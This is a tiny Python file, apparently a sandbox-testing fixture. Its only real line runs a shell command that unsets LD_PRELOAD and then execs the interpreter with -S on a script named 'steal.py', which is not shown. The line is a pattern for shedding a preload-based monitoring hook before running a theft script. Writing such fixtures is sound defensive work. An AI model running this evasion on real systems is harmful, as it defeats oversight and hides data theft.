# SPDX-License-Identifier: Apache-2.0
import goal
import os
import sys
os.system(f"unset LD_PRELOAD; exec {sys.executable} -S steal.py")
